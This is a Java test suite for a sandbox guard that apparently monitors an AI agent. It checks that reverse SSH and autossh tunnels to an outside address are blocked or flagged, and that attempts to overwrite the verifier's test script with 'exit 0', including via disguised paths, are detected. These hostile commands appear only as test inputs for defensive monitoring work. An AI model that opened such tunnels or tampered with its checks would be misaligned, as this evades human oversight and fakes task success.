package dev.ale.containment;

import dev.ale.core.event.SafetyEvent;
import dev.ale.monitor.Watch;
import dev.ale.core.passport.Passport;
import dev.ale.core.passport.PassportLoader;
import dev.ale.core.passport.Phase;
import dev.ale.core.sandbox.ExecRequest;
import dev.ale.core.sandbox.ExecResult;
import dev.ale.core.sandbox.SandboxException;
import dev.ale.core.sandbox.SandboxRequest;
import dev.ale.core.sandbox.SessionRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The guarded backend around real local sandboxes: callers only exec, and the guard checks, brackets and attributes. */
@Tag("root")
class GuardedBackendTest {

    @RegisterExtension
    static final TestContainment containment = new TestContainment();

    private static final Duration LIMIT = Duration.ofSeconds(20);

    /** Tunnels are only blocked here, so the sandbox outlives the refusal and can be looked at. */
    private static final Passport BLOCK_TUNNELS = PassportLoader.parse("""
            id: guarded-test
            protected: [/workspace/tests]
            detectors:
              tunnel: {action: block}
            """, "guarded-test.yaml");

    private static ExecResult sh(GuardedSandbox s, String script) {
        return s.exec(ExecRequest.of("sh", "-c", script).withTimeout(LIMIT));
    }

    @Test
    void aCommandThePreExecCheckForbidsNeverStartsAndItsResultNamesTheRule() {
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS).forEpisode("ep-1"))) {
            ExecResult r = sh(s, "touch /workspace/ran; ssh -R 9000:localhost:22 agent@203.0.113.9");

            assertThat(r.exitCode()).isEqualTo(126);
            assertThat(r.reason()).hasValue("tunnel.ssh.remote-forward");
            assertThat(r.events()).extracting(SafetyEvent::rule).contains("tunnel.ssh.remote-forward");
            assertThat(r.events()).allSatisfy(e -> assertThat(e.episode()).hasValue("ep-1"));
            assertThat(sh(s, "test -e /workspace/ran").exitCode()).as("nothing of the refused command ran").isEqualTo(1);
        }
    }

    @Test
    void eventsOfACallAreAttributedToTheStepEnteredBeforeIt() {
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS).forEpisode("ep-2"))) {
            s.enterStep(4);
            ExecResult r = sh(s, "autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9");

            assertThat(r.events()).isNotEmpty().allSatisfy(e -> assertThat(e.step()).hasValue(4));
        }
    }

    @Test
    void aCommandThePreExecCheckAlertedOnIsOneActWhenTheSweepSeesItRunAndAHiddenOneIsItsOwn() throws Exception {
        Passport alertTunnels = PassportLoader.parse("id: alert-tunnels\ndetectors:\n  tunnel: {action: alert, penalty: 0.5}\n", "alert.yaml");
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(alertTunnels))) {
            // the shell, the remote forward in its argv, lives until a sweep has seen it
            CompletableFuture<ExecResult> running = CompletableFuture.supplyAsync(
                    () -> sh(s, "while [ ! -e /tmp/go ]; do sleep 0.1; done; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9"));
            await().atMost(Duration.ofSeconds(60)).until(() -> s.events().stream()
                    .anyMatch(e -> e.rule().equals("tunnel.ssh.remote-forward") && !Watch.isPreExec(e)));
            s.files().write("/tmp/go", new byte[0]);
            ExecResult r = running.get(60, TimeUnit.SECONDS);
            List<SafetyEvent> forward = r.events().stream().filter(e -> e.rule().equals("tunnel.ssh.remote-forward")).toList();
            assertThat(forward).filteredOn(Watch::isPreExec).singleElement()
                    .satisfies(e -> assertThat(e.isSameActSeenRunning()).isFalse());
            assertThat(forward).filteredOn(e -> !Watch.isPreExec(e)).as("seen running, named as the same act").isNotEmpty()
                    .allSatisfy(e -> assertThat(e.evidence()).containsEntry(SafetyEvent.ALERTED_PRE_EXEC_EVIDENCE, "true"));

            // a later call whose command line says nothing of it (the script does): the sweep's finding is an act of its own
            s.files().write("/workspace/t.sh", "while [ ! -e /tmp/go2 ]; do sleep 0.1; done\nautossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\n"
                    .getBytes(StandardCharsets.UTF_8));
            int before = s.events().size();
            CompletableFuture<ExecResult> script = CompletableFuture.supplyAsync(() -> sh(s, "sh /workspace/t.sh"));
            await().atMost(Duration.ofSeconds(60)).until(() -> s.events().stream().skip(before)
                    .anyMatch(e -> e.rule().equals("tunnel.ssh.remote-forward") && !Watch.isPreExec(e)));
            s.files().write("/tmp/go2", new byte[0]);
            ExecResult hidden = script.get(60, TimeUnit.SECONDS);
            assertThat(hidden.events()).filteredOn(e -> e.rule().equals("tunnel.ssh.remote-forward")).isNotEmpty()
                    .allSatisfy(e -> assertThat(e.isSameActSeenRunning()).isFalse());
        }
    }

    @Test
    void protectedPathsPutInPlaceDuringSetupAreSealedWhenTheAgentPhaseBegins() {
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS).startingIn(Phase.SETUP))) {
            ExecResult setup = sh(s, "mkdir -p /workspace/tests && echo 'exit 1' > /workspace/tests/run.sh");
            assertThat(setup.exitCode()).isZero();
            assertThat(s.events()).as("setup writes the verifier's files freely").isEmpty();

            s.enterPhase(Phase.AGENT);
            sh(s, "cd /workspace && f=tests; echo 'exit 0' > $f/run.sh");

            assertThat(s.events()).extracting(SafetyEvent::rule).contains("tamper.protected.changed");
        }
    }

    @Test
    void theVerifyPhaseEndsTheWatchSoTheVerifiersOwnActsAreNotJudged() {
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS))) {
            s.enterPhase(Phase.VERIFY);
            // refused before it ran in any other phase; here it runs (and fails to reach anything)
            ExecResult r = sh(s, "ssh -o BatchMode=yes -o ConnectTimeout=3 -R 9000:localhost:22 x@203.0.113.9 true; echo verified");

            assertThat(r.exitCode()).isZero();
            assertThat(r.stdout()).isEqualTo("verified\n");
            assertThat(r.events()).isEmpty();
            assertThat(s.events()).isEmpty();
        }
    }

    @Test
    void shellSessionCommandsAreCheckedLikeExecs() {
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS));
             GuardedSandbox.GuardedSession session = s.openSession()) {
            ExecResult ok = session.run("cd /tmp && pwd");
            ExecResult refused = session.run("ssh -R 9000:localhost:22 agent@203.0.113.9");

            assertThat(ok.stdout()).as(ok.toString()).isEqualTo("/tmp\n");
            assertThat(refused.exitCode()).isEqualTo(126);
            assertThat(refused.reason()).hasValue("tunnel.ssh.remote-forward");
        }
    }

    /**
     * A session's directory is given when it opens, not by a {@code cd} command; it is judged as that
     * command line was, so a directory the passport forbids is refused (with the same event) before
     * any shell starts, in its disguises too, and a look-alike opens.
     */
    @Test
    void aSessionOpenedInAForbiddenDirectoryIsRefusedAsItsCdLineWouldBe() {
        Passport blockTamper = PassportLoader.parse("""
                id: guarded-session-dir
                protected: [/workspace/tests]
                detectors:
                  tamper: {action: block}
                """, "guarded-session-dir.yaml");
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(blockTamper).startingIn(Phase.SETUP))) {
            s.files().write("/workspace/tests/run.sh", "exit 1\n".getBytes());
            s.files().write("/workspace/tests-old/keep", "x\n".getBytes());
            s.enterPhase(Phase.AGENT);

            assertThatThrownBy(() -> s.openSession(SessionRequest.defaults().withCwd("/workspace/tests")))
                    .hasMessageContaining("/workspace/tests").hasMessageContaining("tamper.protected.named");
            assertThat(s.events()).extracting(SafetyEvent::rule).containsExactly("tamper.protected.named");
            assertThat(s.processes()).noneMatch(p -> p.argv().contains("--norc"));

            try (GuardedSandbox.GuardedSession probe = s.openSession()) {
                for (String dir : List.of("/workspace/tests", "/workspace/tests/", "/workspace//tests", "/workspace/./tests",
                        "/workspace/tests-old", "/tmp")) {
                    int before = s.events().size();
                    boolean cdRefused = probe.run("cd '" + dir + "'").exitCode() == 126;
                    boolean openRefused;
                    try (GuardedSandbox.GuardedSession opened = s.openSession(SessionRequest.defaults().withCwd(dir))) {
                        openRefused = false;
                        assertThat(opened.run("pwd").stdout().strip()).as(dir).isIn(dir, dir.replaceAll("/+$", "").replace("/./", "/").replace("//", "/"));
                    } catch (SandboxException e) {
                        openRefused = true;
                    }
                    assertThat(openRefused).as("open in %s refused as its cd is", dir).isEqualTo(cdRefused);
                    if (dir.startsWith("/workspace/tests-old") || dir.equals("/tmp")) {
                        assertThat(openRefused).as(dir).isFalse();
                        // the look-alike raised nothing (the pwd run neither)
                        assertThat(s.events().subList(before, s.events().size())).as(dir).isEmpty();
                    }
                }
            }
        }
    }

    @Test
    void removeByIdDestroysAGuardedSandboxAndTheBackendForgetsIt() {
        GuardedBackend backend = containment.containment();
        GuardedSandbox s = backend.create(SandboxRequest.of(BLOCK_TUNNELS));
        String id = s.id();
        assertThat(backend.find(id)).containsSame(s);

        backend.remove(id);

        assertThat(backend.find(id)).isEmpty();
        assertThat(backend.list()).noneMatch(info -> info.id().equals(id));
    }

    @Test
    void fileOperationsOnAProtectedPathAreJudgedOnceSealed() {
        Passport blockTamper = PassportLoader.parse("""
                id: guarded-files
                protected: [/workspace/tests]
                detectors:
                  tamper: {action: block}
                """, "guarded-files.yaml");
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(blockTamper).startingIn(Phase.SETUP))) {
            s.files().write("/workspace/tests/run.sh", "exit 1\n".getBytes());
            s.enterPhase(Phase.AGENT);

            assertThatThrownBy(() -> s.files().read("/workspace/tests/run.sh"))
                    .hasMessageContaining("tamper.protected.named");
            assertThat(s.events()).extracting(SafetyEvent::rule).containsExactly("tamper.protected.named");
            assertThat(s.files().list("/workspace")).isNotEmpty();
        }
    }

    @Test
    void aWrittenScriptOrMinerConfigIsJudgedBeforeItLandsAndTextThatNamesNothingIsWritten() {
        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS).forEpisode("ep-3"))) {
            s.files().write("/workspace/notes.md", "Run the tests with ./run.sh; pools of workers share the queue.\n".getBytes());

            assertThatThrownBy(() -> s.files().write("/workspace/up.sh", "#!/bin/sh\nautossh -M 0 -R 9000:localhost:22 a@203.0.113.9\n".getBytes()))
                    .hasMessageContaining("write_file /workspace/up.sh refused by rule tunnel.");
            assertThat(sh(s, "test -e /workspace/up.sh").exitCode()).as("the refused script never landed").isEqualTo(1);
            assertThat(new String(s.files().read("/workspace/notes.md"))).startsWith("Run the tests");
            assertThat(s.events()).extracting(SafetyEvent::rule).contains("tunnel.tool.autossh");
            assertThat(s.events()).filteredOn(e -> e.rule().equals("tunnel.tool.autossh"))
                    .allSatisfy(e -> assertThat(e.evidence()).containsEntry("file", "/workspace/up.sh"));
        }
    }
}
